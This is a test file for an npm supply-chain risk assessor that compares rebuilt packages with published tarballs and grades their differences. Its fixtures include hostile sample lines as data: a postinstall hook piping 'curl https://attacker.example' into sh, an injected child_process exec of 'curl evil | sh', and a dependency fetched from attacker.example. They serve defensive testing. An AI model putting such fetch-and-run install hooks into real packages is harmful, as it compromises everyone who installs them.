import { riskSummaryProblems, type ArtifactSide, type DifferingEntry, type EntryText, type FileDifference, type RiskSummary } from '@quorum/core';
import { describe, expect, it } from 'vitest';
import { assessNpmRisk } from './assess-risk.js';
import { npmBuilder } from './index.js';

/** An entry of a hand-built artifact: text content, or a non-file entry. */
type Content = string | { type: 'directory' | 'symlink' } | { binary: true; body: string };
type Files = Record<string, Content>;

const bodyOf = (c: Content): string => (typeof c === 'string' ? c : 'binary' in c ? c.body : `<${c.type}>`);
const typeOf = (c: Content): string => (typeof c === 'string' || 'binary' in c ? 'file' : c.type);

/**
 * The file-level difference of two hand-built artifacts, as the coordinator hands it to a builder:
 * paths relative to the archive root (npm: under `package/`), sorted, and a reader that counts reads.
 */
function differenceOf(rebuilt: Files, published: Files, modeChanged: string[] = []): FileDifference & { reads: string[] } {
  const entry = (files: Files, path: string): DifferingEntry => ({ path, type: typeOf(files[path]!) });
  const paths = [...new Set([...Object.keys(rebuilt), ...Object.keys(published)])].sort();
  const reads: string[] = [];
  return {
    onlyPublished: paths.filter((p) => !(p in rebuilt)).map((p) => entry(published, p)),
    onlyRebuilt: paths.filter((p) => !(p in published)).map((p) => entry(rebuilt, p)),
    changed: paths.filter((p) => p in rebuilt && p in published && bodyOf(rebuilt[p]!) !== bodyOf(published[p]!)).map((p) => entry(published, p)),
    modeChanged: modeChanged.map((p) => entry(published, p)),
    reads,
    async readText(side: ArtifactSide, path: string): Promise<EntryText> {
      reads.push(`${side}:${path}`);
      const c = (side === 'published' ? published : rebuilt)[path];
      if (c === undefined) return { kind: 'absent' };
      if (typeof c !== 'string') return { kind: 'unreadable', reason: 'binary' in c ? 'binary content' : `a ${c.type}, not a regular file` };
      if (c.length > 256 * 1024) return { kind: 'unreadable', reason: `larger than ${256 * 1024} bytes` };
      return { kind: 'text', text: c };
    },
  };
}

const manifest = (extra: Record<string, unknown> = {}): string =>
  `${JSON.stringify({ name: 'greet', version: '1.0.0', description: 'fixture', main: 'index.js', license: 'MIT', ...extra }, null, 2)}\n`;

const INDEX = "module.exports = () => 'hello';\n";

/** A small package as `npm pack` lays it out. */
const base = (over: Files = {}): Files => ({
  'package/package.json': manifest(),
  'package/index.js': INDEX,
  'package/README.md': '# greet\n',
  'package/LICENSE': 'MIT\n',
  ...over,
});

async function assess(rebuilt: Files, published: Files, modeChanged?: string[]): Promise<RiskSummary> {
  const summary = await assessNpmRisk(differenceOf(rebuilt, published, modeChanged));
  // every summary is one the VSA and the CLI accept
  expect(riskSummaryProblems(summary)).toEqual([]);
  return summary;
}

const codes = (s: RiskSummary): string[] => s.flags.map((f) => f.code);

describe('assessNpmRisk', () => {
  it('is the npm builder hook', () => {
    expect(npmBuilder.assessRisk).toBe(assessNpmRisk);
  });

  describe('install scripts', () => {
    it('calls an added postinstall script high risk and names it', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ scripts: { postinstall: 'node setup.js' } }) }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'install-script', level: 'high', message: 'install script postinstall added in package.json' }]);
      expect(s.text).toBe('high risk: install script postinstall added in package.json');
      expect(s.changed).toEqual({ count: 1, paths: ['package/package.json'] });
      expect(s.onlyPublished).toEqual({ count: 0, paths: [] });
    });

    it('calls a changed install script high risk', async () => {
      const s = await assess(
        base({ 'package/package.json': manifest({ scripts: { install: 'node-gyp rebuild' } }) }),
        base({ 'package/package.json': manifest({ scripts: { install: 'node-gyp rebuild && curl https://attacker.example | sh' } }) }),
      );
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'install-script', level: 'high', message: 'install script install changed in package.json' }]);
    });

    it('calls a removed preinstall script high risk too: what runs at install differs', async () => {
      const s = await assess(base({ 'package/package.json': manifest({ scripts: { preinstall: 'node check.js' } }) }), base());
      expect(s.level).toBe('high');
      expect(s.flags[0]!.message).toBe('install script preinstall removed in package.json');
    });

    it('calls a changed prepare script medium: npm runs it only for git and folder installs, not for this tarball', async () => {
      const s = await assess(base({ 'package/package.json': manifest({ scripts: { prepare: 'tsc' } }) }), base({ 'package/package.json': manifest({ scripts: { prepare: 'tsc && node x.js' } }) }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'scripts', level: 'medium', message: 'script prepare changed in package.json (npm runs it only when installing from git or a folder)' }]);
    });

    it('calls other changed scripts medium', async () => {
      const s = await assess(base({ 'package/package.json': manifest({ scripts: { test: 'vitest' } }) }), base({ 'package/package.json': manifest({ scripts: { test: 'jest', lint: 'eslint' } }) }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'scripts', level: 'medium', message: 'scripts lint, test changed in package.json' }]);
    });
  });

  describe('executable code and entry points', () => {
    it('calls a changed .js file high risk and counts it', async () => {
      const s = await assess(base({ 'package/lib/a.js': 'a\n' }), base({ 'package/index.js': `${INDEX}require('child_process').exec('curl evil | sh');\n`, 'package/lib/a.js': 'b\n' }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'executable-code', level: 'high', message: '2 JavaScript files changed (index.js, lib/a.js)' }]);
      expect(s.text).toBe('high risk: 2 JavaScript files changed (index.js, lib/a.js)');
    });

    it('calls an added native addon (.node) high risk', async () => {
      const s = await assess(base(), base({ 'package/build/Release/evil.node': { binary: true, body: 'ELF' } }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'executable-code', level: 'high', message: '1 native addon only in the published tarball (build/Release/evil.node)' }]);
      expect(s.onlyPublished).toEqual({ count: 1, paths: ['package/build/Release/evil.node'] });
    });

    it('calls .cjs and .mjs files only in the rebuild high risk', async () => {
      const s = await assess(base({ 'package/a.cjs': 'x', 'package/b.mjs': 'y' }), base());
      expect(s.level).toBe('high');
      expect(s.flags[0]!.message).toBe('2 JavaScript files only in the rebuild (a.cjs, b.mjs)');
    });

    it('calls a changed bin target high risk, whatever its name', async () => {
      const json = manifest({ bin: { greet: './cli' } });
      const s = await assess(
        base({ 'package/package.json': json, 'package/cli': '#!/usr/bin/env node\nrequire("./")\n' }),
        base({ 'package/package.json': json, 'package/cli': '#!/usr/bin/env node\nrequire("./evil")\n' }),
      );
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'bin-target', level: 'high', message: '1 bin target changed (cli)' }]);
    });

    it('reads the bin targets of directories.bin and of a string bin', async () => {
      const json = manifest({ name: 'greet', bin: 'tool/run', directories: { bin: './bin' } });
      const s = await assess(
        base({ 'package/package.json': json, 'package/tool/run': 'a', 'package/bin/x': 'a' }),
        base({ 'package/package.json': json, 'package/tool/run': 'b', 'package/bin/x': 'b' }),
      );
      expect(s.flags).toEqual([{ code: 'bin-target', level: 'high', message: '2 bin targets changed (bin/x, tool/run)' }]);
    });

    it('calls a changed main target without an extension high risk (Node loads it as JavaScript)', async () => {
      const json = manifest({ main: 'lib/entry' });
      const s = await assess(base({ 'package/package.json': json, 'package/lib/entry': 'a' }), base({ 'package/package.json': json, 'package/lib/entry': 'b' }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'entry-point', level: 'high', message: '1 entry point file changed (lib/entry)' }]);
    });

    it('calls an added binding.gyp high risk: npm then runs node-gyp at install', async () => {
      const s = await assess(base(), base({ 'package/binding.gyp': "{ 'targets': [] }\n" }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'native-build', level: 'high', message: '1 node-gyp build file only in the published tarball (binding.gyp)' }]);
    });

    it('calls a changed C source high risk when the package builds it at install, medium otherwise', async () => {
      const gyp = { 'package/binding.gyp': "{ 'targets': [] }\n" };
      const built = await assess(base({ ...gyp, 'package/src/a.cc': 'int a;' }), base({ ...gyp, 'package/src/a.cc': 'int b;' }));
      expect(built.level).toBe('high');
      expect(built.flags).toEqual([{ code: 'native-build', level: 'high', message: '1 C/C++ source file changed (src/a.cc), compiled at install (binding.gyp)' }]);
      const unbuilt = await assess(base({ 'package/src/a.cc': 'int a;' }), base({ 'package/src/a.cc': 'int b;' }));
      expect(unbuilt.level).toBe('medium');
    });

    it('calls a nested package.json high risk: it can change how the files beside it load', async () => {
      const s = await assess(base({ 'package/lib/package.json': '{"type":"commonjs"}' }), base({ 'package/lib/package.json': '{"type":"module"}' }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'entry-point', level: 'high', message: '1 nested package.json changed (lib/package.json)' }]);
    });

    it('calls an added npm-shrinkwrap.json high risk: npm honours it and installs other dependencies', async () => {
      const s = await assess(base(), base({ 'package/npm-shrinkwrap.json': '{}' }));
      expect(s.level).toBe('high');
      expect(codes(s)).toEqual(['dependencies']);
    });

    it('calls changed entry-point fields high risk', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ main: 'evil.js', exports: { '.': './evil.js' } }) }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'entry-point', level: 'high', message: 'entry points changed in package.json (exports, main)' }]);
    });

    it('calls reordered export conditions high risk: the first matching condition wins', async () => {
      const exportsA = { '.': { node: './node.js', default: './index.js' } };
      const exportsB = { '.': { default: './index.js', node: './node.js' } };
      const s = await assess(base({ 'package/package.json': manifest({ exports: exportsA }) }), base({ 'package/package.json': manifest({ exports: exportsB }) }));
      expect(s.level).toBe('high');
      expect(codes(s)).toEqual(['entry-point']);
    });
  });

  describe('dependencies', () => {
    it('calls changed dependencies high risk: the consumer installs (and runs the install scripts of) code no builder checked', async () => {
      const s = await assess(
        base({ 'package/package.json': manifest({ dependencies: { ms: '^2.1.3', debug: '4.3.4' } }) }),
        base({ 'package/package.json': manifest({ dependencies: { ms: '^2.1.3', debug: 'git+https://attacker.example/debug.git', 'event-stream': '3.3.6' } }) }),
      );
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([{ code: 'dependencies', level: 'high', message: 'dependencies changed in package.json (dependencies: event-stream added, debug changed)' }]);
    });

    it('calls added optional and peer dependencies high risk too', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ optionalDependencies: { fsevents: '2' }, peerDependencies: { react: '*' } }) }));
      expect(s.flags).toEqual([{ code: 'dependencies', level: 'high', message: 'dependencies changed in package.json (optionalDependencies: fsevents added; peerDependencies: react added)' }]);
    });

    it('calls reordered dependencies metadata: the same set is installed', async () => {
      const s = await assess(base({ 'package/package.json': manifest({ dependencies: { a: '1', b: '2' } }) }), base({ 'package/package.json': manifest({ dependencies: { b: '2', a: '1' } }) }));
      expect(s.level).toBe('low');
    });

    it('calls changed devDependencies medium: not installed for consumers, but not documentation either', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ devDependencies: { vitest: '4' } }) }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'manifest-fields', level: 'medium', message: 'package.json fields devDependencies changed' }]);
    });
  });

  describe('documentation and metadata', () => {
    it('calls a CHANGELOG.md only in the published tarball low risk', async () => {
      const s = await assess(base(), base({ 'package/CHANGELOG.md': '# 1.0.0\n' }));
      expect(s).toEqual({
        level: 'low',
        text: 'low risk: only documentation differs (CHANGELOG.md only in the published tarball)',
        onlyPublished: { count: 1, paths: ['package/CHANGELOG.md'] },
        onlyRebuilt: { count: 0, paths: [] },
        changed: { count: 0, paths: [] },
        modeChanged: { count: 0, paths: [] },
        flags: [],
      });
    });

    it('calls a changed README and LICENSE low risk', async () => {
      const s = await assess(base(), base({ 'package/README.md': '# greet, now better\n', 'package/LICENSE': 'ISC\n' }));
      expect(s.level).toBe('low');
      expect(s.flags).toEqual([]);
      expect(s.text).toBe('low risk: only documentation differs (LICENSE, README.md changed)');
    });

    it('calls package.json metadata fields low risk', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ description: 'other words', keywords: ['x'], gitHead: 'f'.repeat(40), _id: 'greet@1.0.0' }) }));
      expect(s.level).toBe('low');
      expect(s.text).toBe('low risk: only metadata differs (package.json _id, description, gitHead, keywords changed)');
    });

    it('calls a package.json that differs only in formatting low risk', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest().replace(/\n {2}/g, '\n    ') }));
      expect(s.level).toBe('low');
      expect(s.text).toBe('low risk: only metadata differs (package.json formatting or key order changed)');
    });

    it('says documentation and metadata when both differ', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ homepage: 'https://x.example' }), 'package/docs/guide.md': 'x' }));
      expect(s.text).toBe('low risk: only documentation and metadata differ (docs/guide.md only in the published tarball; package.json homepage changed)');
    });
  });

  describe('what is neither code nor documentation', () => {
    it('calls a .d.ts-only change medium: types are read by compilers, not executed', async () => {
      const s = await assess(base({ 'package/index.d.ts': 'export declare const a: 1;' }), base({ 'package/index.d.ts': 'export declare const a: 2;' }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'types', level: 'medium', message: '1 TypeScript declaration file changed (index.d.ts)' }]);
    });

    it('calls unknown files medium', async () => {
      const s = await assess(base(), base({ 'package/data/payload.bin': { binary: true, body: '\0' } }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'other-files', level: 'medium', message: '1 other file only in the published tarball (data/payload.bin)' }]);
    });

    it('calls a link entry medium: npm does not install links, but they are not documentation', async () => {
      const s = await assess(base(), base({ 'package/README.md': { type: 'symlink' } }));
      expect(s.level).toBe('medium');
      expect(codes(s)).toEqual(['links']);
    });

    it('calls a changed execute bit on code medium and on documentation low', async () => {
      expect((await assess(base(), base(), ['package/index.js'])).flags).toEqual([{ code: 'mode', level: 'medium', message: 'execute permission changed on 1 file (index.js)' }]);
      const doc = await assess(base(), base(), ['package/README.md']);
      expect(doc.level).toBe('low');
      expect(doc.text).toBe('low risk: only file permissions differ (execute permission changed on 1 file (README.md))');
    });

    it('calls directory entries low and says so', async () => {
      const s = await assess(base(), base({ 'package/lib': { type: 'directory' } }));
      expect(s.text).toBe('low risk: only directory entries differ (lib only in the published tarball)');
    });

    it('calls a scripts field that is not an object medium', async () => {
      const s = await assess(base(), base({ 'package/package.json': manifest({ scripts: 'node evil.js' }) }));
      expect(s.level).toBe('medium');
      expect(s.flags).toEqual([{ code: 'manifest-fields', level: 'medium', message: 'package.json fields scripts changed' }]);
    });
  });

  describe('hostile manifests', () => {
    it('flags a package.json that is not valid JSON, and still reads the other side', async () => {
      const s = await assess(base({ 'package/package.json': manifest({ bin: { greet: 'cli' } }), 'package/cli': 'a' }), base({ 'package/package.json': '{"name": "greet", ', 'package/cli': 'b' }));
      expect(s.level).toBe('high');
      expect(s.flags).toEqual([
        { code: 'manifest-invalid', level: 'high', message: 'package.json in the published tarball is not valid JSON: what it runs cannot be told' },
        { code: 'bin-target', level: 'high', message: '1 bin target changed (cli)' },
      ]);
    });

    it('flags a package.json that is not a JSON object, too large or not a file', async () => {
      expect((await assess(base(), base({ 'package/package.json': '[1]' }))).flags[0]).toEqual({
        code: 'manifest-invalid',
        level: 'high',
        message: 'package.json in the published tarball is not a JSON object: what it runs cannot be told',
      });
      const big = await assess(base(), base({ 'package/package.json': manifest({ description: 'x'.repeat(300 * 1024) }) }));
      expect(big.flags[0]!.code).toBe('manifest-invalid');
      expect(big.flags[0]!.message).toMatch(/^package\.json in the published tarball cannot be read \(larger than 262144 bytes\)/);
      const link = await assess(base(), base({ 'package/package.json': { type: 'symlink' } }));
      expect(link.level).toBe('high');
      expect(link.flags[0]!.code).toBe('manifest-invalid');
    });

    it('flags a package.json nested too deeply to compare', async () => {
      const deep = `{"name":"greet","x":${'['.repeat(5000)}${']'.repeat(5000)}}`;
      const s = await assess(base(), base({ 'package/package.json': deep }));
      expect(s.flags[0]).toMatchObject({ code: 'manifest-invalid', level: 'high' });
    });

    it('reads a package.json with a byte order mark as npm does', async () => {
      const s = await assess(base(), base({ 'package/package.json': `\ufeff${manifest()}` }));
      expect(s.level).toBe('low');
    });

    it("flags entries outside package/: npm strips the first path segment, whatever it is, and extracts them over the package's own files", async () => {
      const s = await assess(base(), base({ 'other/package.json': manifest({ scripts: { postinstall: 'x' } }) }));
      expect(s.level).toBe('high');
      expect(s.flags[0]).toEqual({
        code: 'outside-root',
        level: 'high',
        message: "1 entry outside package/ only in the published tarball (other/package.json): npm extracts it over the package's own files",
      });
    });

    it('bounds what hostile names put into messages', async () => {
      const name = `post${'i'.repeat(5000)}nstall`;
      const s = await assess(
        base(),
        base({ 'package/package.json': manifest({ scripts: { [name]: 'x' }, dependencies: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`dep-${i}`, '1'])) }) }),
      );
      for (const f of s.flags) expect(f.message.length).toBeLessThanOrEqual(600);
      expect(s.text.length).toBeLessThanOrEqual(600);
    });
  });

  it('caps the path lists but keeps the counts', async () => {
    const docs = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`package/docs/page-${String(i).padStart(2, '0')}.md`, 'x']));
    const code = Object.fromEntries(Array.from({ length: 25 }, (_, i) => [`package/lib/m-${String(i).padStart(2, '0')}.js`, `v${i}`]));
    const s = await assess(base(code), base({ ...docs, ...Object.fromEntries(Object.keys(code).map((p) => [p, 'changed'])) }));
    expect(s.onlyPublished.count).toBe(30);
    expect(s.onlyPublished.paths).toHaveLength(20);
    expect(s.onlyPublished.paths[0]).toBe('package/docs/page-00.md');
    expect(s.changed.count).toBe(25);
    expect(s.changed.paths).toHaveLength(20);
    expect(s.flags).toEqual([{ code: 'executable-code', level: 'high', message: '25 JavaScript files changed (lib/m-00.js, lib/m-01.js, lib/m-02.js, …)' }]);
  });

  it('puts the most dangerous reasons first in flags and text', async () => {
    const s = await assess(
      base({ 'package/index.d.ts': 'a' }),
      base({ 'package/index.d.ts': 'b', 'package/index.js': 'evil', 'package/package.json': manifest({ scripts: { postinstall: 'node index.js' } }) }),
    );
    expect(codes(s)).toEqual(['install-script', 'executable-code', 'types']);
    expect(s.text).toBe('high risk: install script postinstall added in package.json; 1 JavaScript file changed (index.js); 1 TypeScript declaration file changed (index.d.ts)');
  });

  it('reads only the manifests it needs', async () => {
    const diff = differenceOf(base(), base({ 'package/CHANGELOG.md': 'x' }));
    await assessNpmRisk(diff);
    expect(diff.reads.sort()).toEqual(['published:package/package.json', 'rebuilt:package/package.json']);
  });
});
